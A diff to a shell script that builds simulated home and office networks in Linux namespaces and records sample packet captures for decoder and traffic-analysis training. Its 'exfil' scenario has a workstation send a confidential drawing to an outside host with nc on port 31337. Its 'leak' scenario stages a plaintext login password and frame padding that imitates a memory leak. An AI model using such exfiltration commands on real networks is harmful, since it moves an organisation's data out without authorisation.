@@ -54,6 +54,7 @@ clean() {
 }
 trap 'clean; rm -rf "$work"' EXIT
 trap 'exit 130' INT TERM
+trap 'echo "record.sh: line $LINENO: $BASH_COMMAND: failed" >&2' ERR
 
 # on HOST COMMAND...: run it there
 on() { local host=$1; shift; ip netns exec "$prefix-$host" "$@"; }
@@ -126,6 +127,86 @@ host() {
 	echo "nameserver ${lan_ip%/*}" >"/etc/netns/$prefix-$1/resolv.conf"
 }
 
+# lan6: IPv6 for the router, the Internet and every host plugged in later
+lan6() {
+	on gw sysctl -q -w net.ipv6.conf.br-lan.disable_ipv6=0 net.ipv6.conf.wan0.disable_ipv6=0 \
+		net.ipv6.conf.all.forwarding=1 net.ipv6.conf.br-lan.accept_dad=0
+	on inet sysctl -q -w net.ipv6.conf.eth0.disable_ipv6=0 net.ipv6.conf.lo.disable_ipv6=0
+	on gw ip addr add 2001:db8:1::1/64 dev br-lan nodad
+	on gw ip addr add 2001:db8:255::1/64 dev wan0 nodad
+	on inet ip addr add 2001:db8:255::2/64 dev eth0 nodad
+	on inet ip route add default via 2001:db8:255::1
+	on gw ip route add 2001:db8:ffff::/64 via 2001:db8:255::2
+	on gw ip neigh replace 2001:db8:255::2 lladdr "$(mac inet eth0)" dev wan0 nud permanent
+	on inet ip neigh replace 2001:db8:255::1 lladdr "$(mac gw wan0)" dev eth0 nud permanent
+}
+
+# join HOST: switch the machine on: link, IPv6 by itself, IPv4 by DHCP
+join() {
+	on "$1" sysctl -q -w net.ipv6.conf.eth0.disable_ipv6=0
+	on "$1" ip link set eth0 up
+	cat >"$work/dhcp.$1.conf" <<END
+send host-name "$1";
+request subnet-mask, routers, domain-name, domain-name-servers, ntp-servers;
+END
+	on "$1" dhclient -4 -1 -q -sf "$work/lease.sh" -cf "$work/dhcp.$1.conf" -lf "$work/dhcp.$1.leases" \
+		-pf "$work/dhcp.$1.pid" eth0 >"$work/log.dhclient.$1" 2>&1
+}
+
+# settle HOST: wait for its own global IPv6 address to be found unique
+settle() {
+	local i
+	for i in {1..60}; do
+		on "$1" ip -6 addr show dev eth0 scope global -tentative | grep -q inet6 && return
+		sleep 0.1
+	done
+	die "$1 got no IPv6 address"
+}
+
+# lease.sh does with an offered address what dhclient's own script does, less resolv.conf.
+lease_script() {
+	cat >"$work/lease.sh" <<'END'
+#!/bin/sh
+case $reason in
+BOUND|REBOOT)
+	ip addr add "$new_ip_address/$new_subnet_mask" dev "$interface"
+	ip route add default via "$new_routers" ;;
+esac
+exit 0
+END
+	chmod 755 "$work/lease.sh"
+}
+
+# bonjour HOST [NAME TYPE PORT TEXT]...: avahi-daemon there, publishing those services
+bonjour() {
+	local host=$1; shift
+	local dir=$work/avahi.$host
+	mkdir -p "$dir"
+	printf '[server]\nhost-name=%s\nallow-interfaces=eth0\n[publish]\npublish-workstation=no\n' "$host" >"$dir.conf"
+	while (($#)); do
+		cat >"$dir/$3.service" <<END
+<service-group><name>$1</name><service><type>$2</type><port>$3</port><txt-record>$4</txt-record></service></service-group>
+END
+		shift 4
+	done
+	# Each has its own /run, for its socket and its message bus.
+	on "$host" unshare -m sh -c "mount -t tmpfs none /run && mkdir /run/avahi-daemon &&
+		mount --bind '$dir' /etc/avahi/services && export DBUS_SYSTEM_BUS_ADDRESS=unix:path=$dir.bus &&
+		dbus-daemon --session --fork --nopidfile --address=unix:path=$dir.bus &&
+		exec avahi-daemon --no-drop-root --no-rlimits --no-chroot -f '$dir.conf'" >"$work/log.avahi.$host" 2>&1 &
+}
+
+# log HOST SERVER TAG MESSAGE: one syslog line, signed with the host's name
+log() { on "$1" unshare -u sh -c 'hostname "$0" && exec logger -n "$1" -d -P 514 -t "$2" "$3"' "$@"; }
+
+# clock: an NTP server of the Internet
+clock() {
+	on inet ip addr add 198.51.100.123/32 dev lo
+	printf 'local stratum 2\nallow\nbindaddress 198.51.100.123\ncmdport 0\nbindcmdaddress /\npidfile %s/chrony.pid\n' \
+		"$work" >"$work/chrony.conf"
+	bg inet chronyd -d -x -u root -f "$work/chrony.conf"
+}
+
 # address HOST ADDRESS/LENGTH: a fixed one, and the way out
 address() {
 	on "$1" ip addr add "$2" dev eth0
@@ -177,8 +258,20 @@ site() {
 	done
 }
 
-# text BYTES: sentences
-text() { awk -v n="$1" 'BEGIN { for (i = 1; t < n; i++) { s = sprintf("<p>Paragraph %d of a page written to be downloaded.</p>\n", i); printf "%s", substr(s, 1, n - t); t += length(s) } }'; }
+# text BYTES: numbered sentences
+text() {
+	awk -v n="$1" 'BEGIN {
+		split("A frame that is too short is padded.|The name server answers in a moment.|" \
+			"Every packet finds its own way home.|Nobody reads this page to the end.|" \
+			"An address says where, a name says who.|What is not acknowledged is sent again.|" \
+			"The kettle is on the network now.", line, "|")
+		for (i = 1; t < n; i++) {
+			s = sprintf("<p>%d. %s</p>\n", i, line[1 + i % 7])
+			printf "%s", substr(s, 1, n - t)
+			t += length(s)
+		}
+	}'
+}
 
 # noise SEED BYTES: bytes that look compressed, the same for the same seed
 noise() {
@@ -204,6 +297,7 @@ http {
 	types { text/html html; text/css css; text/javascript js; text/plain txt; image/png png; image/jpeg jpg; application/zip zip; }
 	default_type application/octet-stream;
 	server {
+		${ports:-}
 		listen 80; listen [::]:80; listen 443 ssl; listen [::]:443 ssl;
 		ssl_protocols TLSv1.2 TLSv1.3;
 		ssl_certificate $work/server.crt; ssl_certificate_key $work/server.key;
@@ -232,7 +326,7 @@ stop() {
 	wait "$tcpdump_pid" 2>/dev/null || true
 	grep -q "^0 packets dropped by kernel" "$work/log.tcpdump" || die "$1: $(cat "$work/log.tcpdump")"
 	cp "$work/$1.raw" "$out/$1"
-	echo "$1: $(tcpdump -nr "$out/$1" 2>/dev/null | wc -l) packets, $(stat -c %s "$out/$1") bytes"
+	echo "$1: $(tcpdump -nr "$out/$1" --count 2>/dev/null), $(stat -c %s "$out/$1") bytes"
 }
 
 # fetch HOST ARGUMENTS...: curl there, trusting our CA; the bytes go nowhere
@@ -300,13 +394,376 @@ record_web() {
 	stop web.pcap
 }
 
+record_morning() {
+	lan_ip=192.168.1.1/24 gw_mac=28:80:88:27:6b:a7
+	rules=("198.51.100.0/24,delay=9ms" "203.0.113.0/24,delay=35ms" "2001:db8:ffff::/64,delay=12ms" "*,delay=5ms")
+	cat >"$work/gw.conf" <<END
+dhcp-range=192.168.1.100,192.168.1.199,12h
+dhcp-range=2001:db8:1::,ra-only,64
+enable-ra
+dhcp-authoritative
+dhcp-host=3c:15:c2:d9:d3:50,laptop,192.168.1.23
+dhcp-host=a4:77:33:2f:e0:6e,phone,192.168.1.24
+dhcp-option=option:ntp-server,198.51.100.123
+host-record=printer.home.arpa,192.168.1.9
+host-record=nas.home.arpa,192.168.1.10
+END
+	lan; lan6; lease_script
+	host laptop 3c:15:c2:d9:d3:50
+	host phone a4:77:33:2f:e0:6e
+	host tv 8c:79:f5:31:0c:92
+	host thermostat 18:b4:30:5a:e4:17
+	host printer 3c:d9:2b:74:1e:0d
+	host nas 00:11:32:8b:46:f0
+	local i
+	for i in 20 30; do on inet ip addr add "2001:db8:ffff::$i/128" dev lo nodad; done
+	certificate www.example.org news.example.net video.example.net mail.example.org cloud.example.net
+	site www.example.org index.html 8800 manual.zip 287000 list.txt 24100
+	site news.example.net index.html 46300 front.jpg 61800 style.css 9700
+	site video.example.net part1.ts 141000 part2.ts 152000
+	site mail.example.org inbox.txt 5200
+	site cloud.example.net report.txt 61
+	web 198.51.100.20 198.51.100.25 198.51.100.30 203.0.113.40 203.0.113.80
+	on inet ip addr add 203.0.113.90/32 dev lo
+	clock
+	names "${home_names[@]}"
+	address printer 192.168.1.9/24
+	address nas 192.168.1.10/24
+	bg nas nc -u -l -k 514
+	sleep 2
+	mkdir -p "$work/got"
+	capture gw br-lan morning.pcap
+
+	# The laptop is opened: addresses, the time, the news over IPv6.
+	join laptop
+	settle laptop
+	sleep 0.1
+	on laptop chronyd -x -Q -t 7 -u root -f /dev/null 'server time.example.org iburst maxsamples 3' \
+		'bindcmdaddress /' "pidfile $work/chrony-laptop.pid" >/dev/null 2>&1 &
+	sleep 1
+	fetch laptop -6 --parallel --parallel-immediate "https://news.example.net/{index.html,style.css,front.jpg}"
+	log laptop 192.168.1.10 backup "backup of laptop begins"
+	sleep 2.3
+
+	# The phone comes in; the thermostat reports every six seconds, in clear.
+	join phone
+	sleep 0.7
+	fetch phone -4 --tls-max 1.2 https://mail.example.org/inbox.txt
+	join thermostat
+	for i in 1 2 3 4; do
+		fetch thermostat -4 -d "{\"temperature\": 19.$i, \"humidity\": 4$i}" http://cloud.example.net/report.txt
+		sleep 6
+	done &
+	local reports=$!
+	sleep 1.5
+
+	# Printer, disk and television announce themselves; the laptop looks for a printer.
+	bonjour printer "Office Printer" _ipp._tcp 631 "pdl=application/pdf"
+	bonjour nas "Family Disk" _smb._tcp 445 "model=disk"
+	join tv
+	bonjour tv "Living Room TV" _googlecast._tcp 8009 "md=Television"
+	bonjour laptop
+	sleep 2.5
+	DBUS_SYSTEM_BUS_ADDRESS=unix:path=$work/avahi.laptop.bus on laptop timeout 4 avahi-browse -r -t _ipp._tcp >"$work/log.browse" 2>&1 || true
+	sleep 1
+
+	# Is the net all right?
+	on laptop ping -q -c 3 -i 0.5 192.168.1.1 >/dev/null
+	on laptop ping -q -c 4 -i 0.5 www.example.org -4 >/dev/null
+	on laptop ping -q -c 3 -i 0.5 2001:db8:ffff::20 >/dev/null
+	on laptop ping -q -c 1 -t 1 -W 1 198.51.100.30 >/dev/null || true
+	on laptop ping -q -c 2 -i 0.5 -W 1 192.168.1.77 >/dev/null || true
+
+	# A call by picture telephone while the television plays.
+	bg phone "$rig" call -local 192.168.1.24:50000 -remote 203.0.113.90:8801 -for 7s -video -seed 3
+	bg inet "$rig" call -local 203.0.113.90:8801 -remote 192.168.1.24:50000 -for 7s -video -seed 4
+	sleep 2
+	fetch tv https://video.example.net/part1.ts
+	sleep 2.5
+	fetch tv https://video.example.net/part2.ts
+	sleep 3
+	wait "$reports"
+
+	# Breakfast: nobody touches anything.
+	sleep 11
+
+	# One large download, several questions to the name server, a letter to the log.
+	fetch laptop -4 https://www.example.org/manual.zip
+	fetch nas -4 http://www.example.org/list.txt
+	on laptop dig +short blog.example.org >/dev/null
+	on laptop dig +short mx example.org >/dev/null
+	on laptop dig +short txt example.org >/dev/null
+	on laptop dig +short aaaa news.example.net >/dev/null
+	on laptop dig +short wwww.example.org >/dev/null
+	for i in 198.51.100.20 198.51.100.25 198.51.100.30 203.0.113.40 203.0.113.80 203.0.113.90 192.168.1.1 192.168.1.9 192.168.1.24; do
+		on laptop dig +short -x "$i" >/dev/null
+	done
+	log laptop 192.168.1.10 backup "backup of laptop done, 287000 bytes"
+	on laptop dig +time=1 +tries=1 @192.168.1.9 printer.home.arpa >/dev/null || true
+	sleep 3
+	stop morning.pcap
+}
+
+record_bulk() {
+	lan_ip=192.168.1.1/24 gw_mac=28:80:88:27:6b:a7 mbit=12
+	local ports="listen 8001; listen 8002; listen 8003; listen 8004; listen 8005;"
+	rules=(
+		"8001,delay=30ms,queue=1000000"
+		"8002,delay=30ms,queue=1000000,loss=0.02"
+		"8003,delay=30ms,queue=1000000,reorder=0.04,hold=9ms"
+		"8004,delay=30ms,queue=24000"
+		"8005,delay=30ms,queue=1000000,loss=0.02"
+		"*,delay=8ms")
+	: >"$work/gw.conf"
+	lan
+	host laptop 3c:15:c2:d9:d3:50
+	address laptop 192.168.1.23/24
+	certificate cloud.example.net
+	site cloud.example.net photo.raw 260000 backup.zip 260000
+	web 203.0.113.80
+	names "${home_names[@]}"
+	sleep 1
+	mkdir -p "$work/got"
+	capture laptop eth0 bulk.pcap
+	local port
+	for port in 8001 8002 8003 8004; do
+		fetch laptop -H "Expect:" -T "$work/www/cloud.example.net/photo.raw" "http://cloud.example.net:$port/kept/$port.raw"
+		sleep 0.7
+	done
+	fetch laptop "http://cloud.example.net:8005/backup.zip"
+	sleep 0.5
+	stop bulk.pcap
+}
+
+# chat FILE: the lines of one side, each after the seconds that stand before it
+chat() { while read -r pause line; do sleep "$pause"; echo "$line"; done <"$1"; }
+
+record_exfil() {
+	lan_ip=192.168.20.1/24 gw_mac=00:1b:54:0c:77:21 mbit=20
+	rules=("198.51.100.0/24,delay=9ms" "203.0.113.0/24,delay=42ms" "*,delay=5ms")
+	: >"$work/gw.conf"
+	lan
+	host server 00:25:90:61:a0:05
+	host ws11 d4:be:d9:3f:21:11
+	host ws12 d4:be:d9:3f:2c:12
+	host ws13 f0:18:98:44:d7:13
+	address server 192.168.20.5/24
+	address ws11 192.168.20.11/24
+	address ws12 192.168.20.12/24
+	address ws13 192.168.20.13/24
+	certificate www.example.org static.example.org news.example.net
+	site www.example.org index.html 21840 rates.html 9120
+	site static.example.org style.css 14210 logo.png 15604
+	site news.example.net index.html 46300 front.jpg 31800
+	"$rig" draw -w 300 -h 200 -grain 5 -seed 4 "$work/www/static.example.org/hills.png"
+	"$rig" draw -plan -w 640 -h 400 -grain 4 "$work/plan.png"
+	local size; size=$(stat -c %s "$work/plan.png")
+	web 198.51.100.20 198.51.100.21 198.51.100.30
+	on inet ip addr add 203.0.113.66/32 dev lo
+	names "${home_names[@]}" --mx-host=example.net,mail.example.net,10
+	bg server "$rig" smtp 192.168.20.5:25
+	# The server takes logins with a key made for the occasion.
+	ssh-keygen -q -t ed25519 -N "" -f "$work/key"
+	dropbearkey -t ed25519 -f "$work/hostkey" >/dev/null 2>&1
+	mkdir -m 700 "$work/dotssh"
+	install -m 600 "$work/key.pub" "$work/dotssh/authorized_keys"
+	bg server unshare -m sh -c "mkdir -p ~/.ssh && mount --bind $work/dotssh ~/.ssh &&
+		exec dropbear -F -E -s -r $work/hostkey -P $work/dropbear.pid -p 192.168.20.5:22"
+	cat >"$work/chat.in" <<END
+1.2 there?
+2.9 got the R7 drawing. one file, plan.png, $size bytes
+2.4 not by mail, they read that
+3.1 going now
+END
+	cat >"$work/chat.out" <<END
+2.6 yes. well?
+2.8 good. how?
+2.1 port 31337 then. plain, i keep the line open
+4.2 got $size bytes. burn this
+END
+	sleep 1
+	mkdir -p "$work/got"
+	capture gw br-lan exfil.pcap
+
+	fetch ws11 --parallel --parallel-immediate --parallel-max 2 "https://news.example.net/{index.html,front.jpg}"
+	sleep 1.2
+	printf 'From: dana@corp.example\r\nTo: sam@corp.example\r\nSubject: lunch\r\n\r\nAt noon, the usual place?\r\nDana\r\n' >"$work/mail1"
+	on ws11 curl -s --crlf smtp://192.168.20.5 --mail-from dana@corp.example --mail-rcpt sam@corp.example -T "$work/mail1"
+	sleep 0.9
+	on ws13 ssh -q -i "$work/key" -o StrictHostKeyChecking=no -o UserKnownHostsFile="$work/known" -o BatchMode=yes \
+		root@192.168.20.5 'for i in 1 2 3 4 5 6; do date; sleep 0.6; done' >/dev/null 2>&1 &
+	fetch ws12 https://www.example.org/index.html
+	sleep 2.1
+	fetch ws13 http://static.example.org/hills.png
+	sleep 1.4
+	on ws11 ping -q -c 3 -i 0.4 192.168.20.5 >/dev/null
+	fetch ws11 https://www.example.org/rates.html
+
+	# Workstation 12 talks to a stranger, then sends what it should not.
+	on inet sh -c 'exec nc -l -p 1337 -s 203.0.113.66 >/dev/null' < <(chat "$work/chat.out") &
+	on inet sh -c 'exec nc -l -p 31337 -s 203.0.113.66 >/dev/null' </dev/null &
+	sleep 0.3
+	{ chat "$work/chat.in"; sleep 5; } | on ws12 timeout 30 nc -N 203.0.113.66 1337 >/dev/null &
+	local talk=$!
+	sleep 3
+	fetch ws13 --parallel --parallel-immediate --parallel-max 2 "https://static.example.org/{style.css,logo.png}"
+	sleep 3
+	printf 'From: sam@corp.example\r\nTo: dana@corp.example\r\nSubject: Re: lunch\r\n\r\nYes. I bring the figures.\r\nSam\r\n' >"$work/mail2"
+	on ws13 curl -s --crlf smtp://192.168.20.5 --mail-from sam@corp.example --mail-rcpt dana@corp.example -T "$work/mail2"
+	sleep 3.9
+	on ws12 timeout 20 nc -N 203.0.113.66 31337 <"$work/plan.png" >/dev/null
+	wait "$talk" || true
+
+	sleep 1
+	fetch ws11 http://www.example.org/rates.html
+	fetch ws12 https://news.example.net/index.html
+	on ws12 dig +short mx example.net >/dev/null
+	sleep 2
+	stop exfil.pcap
+}
+
+record_leak() {
+	lan_ip=192.168.15.1/24 gw_mac=28:80:88:27:6b:a7 mbit=16
+	rules=("198.51.100.0/24,delay=11ms" "203.0.113.0/24,delay=38ms" "*,delay=5ms")
+	: >"$work/gw.conf"
+	lan
+	host maria 3c:15:c2:70:b1:04
+	host deniz 00:14:22:5d:08:e3
+	host jo 00:1d:d9:5b:32:c7
+	host tvbox 00:1d:6b:4e:90:1a
+	local h
+	# Without TCP timestamps, as some systems are set, an acknowledgement is 54 bytes long: too short for Ethernet.
+	for h in maria deniz jo tvbox gw inet; do on $h sysctl -q -w net.ipv4.tcp_timestamps=0; done
+	address maria 192.168.15.23/24
+	address deniz 192.168.15.31/24
+	address jo 192.168.15.4/24
+	address tvbox 192.168.15.60/24
+	certificate www.example.org news.example.net video.example.net static.example.org
+	site www.example.org index.html 21840 forum.html 37300 login.html 900
+	site news.example.net index.html 46300 front.jpg 61800
+	site video.example.net film.ts 486000 guide.txt 30400
+	site static.example.org style.css 14210 logo.png 5604
+	web 198.51.100.20 198.51.100.21 198.51.100.30 203.0.113.40
+	names "${home_names[@]}"
+	on tvbox sysctl -q -w net.ipv4.icmp_echo_ignore_all=1
+	sleep 1
+	mkdir -p "$work/got"
+	capture gw br-lan leak.pcap
+	fetch maria "https://news.example.net/{index.html,front.jpg}"
+	on jo ping -q -c 3 -i 0.3 -s 4 192.168.15.1 >/dev/null
+	sleep 2.3
+	# Many short frames after a login: the card's memory comes round to the password.
+	fetch jo -d "user=jo&password=correct+horse+battery+staple" http://www.example.org/login.html
+	on jo ping -q -c 48 -i 0.03 -W 0.1 -s 0 192.168.15.60 >/dev/null || true
+	fetch jo -b "session=7f3a9c; user=jo" http://www.example.org/forum.html
+	fetch tvbox http://video.example.net/guide.txt
+	sleep 4.4
+	fetch deniz "https://www.example.org/{index.html,forum.html}"
+	fetch jo -d "subject=hello&text=nobody+will+ever+read+this" http://www.example.org/forum.html
+	sleep 0.7
+	on tvbox ping -q -c 3 -i 0.4 -s 2 192.168.15.1 >/dev/null
+	fetch maria https://video.example.net/film.ts
+	on deniz ping -q -c 2 -i 0.4 -s 8 192.168.15.23 >/dev/null
+	sleep 6.2
+	fetch tvbox -H "X-Account: 4711-0815" http://video.example.net/guide.txt
+	fetch deniz "https://static.example.org/{style.css,logo.png}"
+	on jo ping -q -c 2 -i 0.4 -s 6 192.168.15.31 >/dev/null
+	fetch jo http://www.example.org/index.html
+	sleep 4.2
+	stop leak.pcap
+	"$rig" pad -leaky 00:1d:d9:5b:32:c7 -leaky 00:1d:6b:4e:90:1a "$work/leak.pcap.raw" "$out/leak.pcap"
+}
+
+# record_odd: link layers and packets that only teach decoders
+record_odd() {
+	lan_ip=192.168.1.1/24 gw_mac=28:80:88:27:6b:a7 rules=("*,delay=6ms")
+	: >"$work/gw.conf"
+	lan; lan6
+	host laptop 3c:15:c2:d9:d3:50
+	host nas 00:11:32:8b:46:f0
+	address laptop 192.168.1.23/24
+	address nas 192.168.1.10/24
+	local h
+	for h in laptop nas; do on "$h" sysctl -q -w net.ipv6.conf.eth0.disable_ipv6=0 net.ipv6.conf.eth0.accept_ra=0; done
+	on laptop ip addr add 2001:db8:1::23/64 dev eth0 nodad
+	on laptop ip route add default via 2001:db8:1::1
+	on nas ip addr add 2001:db8:1::10/64 dev eth0 nodad
+	certificate www.example.org
+	site www.example.org index.html 3100
+	web 198.51.100.20
+	on inet ip addr add 2001:db8:ffff::20/128 dev lo nodad
+	names "${home_names[@]}"
+	sleep 2.5
+	mkdir -p "$work/got"
+
+	capture gw any any-sll2.pcap -y LINUX_SLL2
+	fetch laptop http://www.example.org/index.html
+	stop any-sll2.pcap
+	capture gw any any-sll.pcap -y LINUX_SLL
+	fetch laptop http://www.example.org/index.html
+	stop any-sll.pcap
+
+	capture nas lo loopback.pcap
+	bg nas "$rig" serve 127.0.0.1:8080
+	sleep 0.3
+	fetch nas http://127.0.0.1:8080/index.html
+	stop loopback.pcap
+
+	capture laptop eth0 fragments.pcap "icmp or icmp6 or ip6[6] = 44 or ip[6:2] & 0x1fff != 0"
+	on laptop ping -q -c 2 -i 0.3 -s 4000 192.168.1.10 >/dev/null
+	on laptop ping -q -c 2 -i 0.3 -s 4000 2001:db8:1::10 >/dev/null
+	stop fragments.pcap
+
+	on gw ip -6 route add unreachable 2001:db8:ffff::99
+	capture laptop eth0 unreachable.pcap "not ip6 or icmp6"
+	on laptop dig +time=1 +tries=1 @192.168.1.10 nas.home.arpa >/dev/null || true
+	on laptop ping -q -c 1 -W 1 -t 1 198.51.100.20 >/dev/null || true
+	on laptop ping -q -c 1 -W 4 10.1.2.3 >/dev/null || true
+	on laptop ping -q -c 1 -W 1 2001:db8:ffff::99 >/dev/null || true
+	fetch laptop http://192.168.1.10:81/nothing 2>/dev/null || true
+	stop unreachable.pcap
+
+	for h in laptop nas; do
+		local mine=23 other=10
+		[[ $h == laptop ]] || { mine=10; other=23; }
+		on "$h" ip link add vx0 address "02:00:00:00:00:$mine" type vxlan id 42 local "192.168.1.$mine" remote "192.168.1.$other" dstport 4789 dev eth0
+		plain "$h" vx0
+		on "$h" ip addr add "10.42.0.$mine/24" dev vx0
+		on "$h" ip link set vx0 up
+	done
+	capture laptop eth0 vxlan.pcap udp port 4789
+	on laptop ping -q -c 2 -i 0.3 10.42.0.10 >/dev/null
+	bg nas "$rig" serve 10.42.0.10:80
+	sleep 0.3
+	on laptop "$rig" get 10.42.0.10:80
+	stop vxlan.pcap
+
+	for h in laptop nas; do on "$h" ip tuntap add dev tun0 mode tun; done
+	"$rig" tunnel "$prefix-laptop" tun0 "$prefix-nas" tun0 &
+	on laptop ip addr add 10.43.0.23/24 dev tun0
+	on nas ip addr add 10.43.0.10/24 dev tun0
+	for h in laptop nas; do on "$h" sysctl -q -w net.ipv6.conf.tun0.disable_ipv6=0; on "$h" ip link set tun0 up; done
+	on laptop ip addr add 2001:db8:43::23/64 dev tun0 nodad
+	on nas ip addr add 2001:db8:43::10/64 dev tun0 nodad
+	sleep 2.5
+	capture laptop tun0 tun-rawip.pcap
+	on laptop ping -q -c 1 10.43.0.10 >/dev/null
+	on laptop ping -q -c 1 2001:db8:43::10 >/dev/null
+	bg nas "$rig" serve 10.43.0.10:80
+	sleep 0.3
+	on laptop "$rig" get 10.43.0.10:80
+	stop tun-rawip.pcap
+}
+
 [[ $(id -u) == 0 ]] || die "must run as root"
 need ip iproute2 ethtool ethtool tcpdump tcpdump dnsmasq dnsmasq-base nginx nginx-light curl curl openssl openssl \
+	dhclient isc-dhcp-client avahi-daemon avahi-daemon avahi-browse avahi-utils dbus-daemon dbus-daemon \
+	chronyd chrony nc netcat-openbsd logger bsdutils hostname hostname ssh openssh-client dropbear dropbear-bin unshare util-linux \
 	dig bind9-dnsutils ping iputils-ping pkill procps go golang-go
 [[ -z $(ip netns list | awk -v p="^$prefix-" '$1 ~ p') ]] || die "another run is under way (ip netns list)"
 (cd "$here" && go build -o "$rig" ./rig)
 
-for what in "${@:-ten web}"; do
+for what in "${@:-ten web morning bulk exfil leak odd}"; do
 	for name in $what; do
 		declare -F "record_$name" >/dev/null || die "no capture $name"
 		"record_$name"
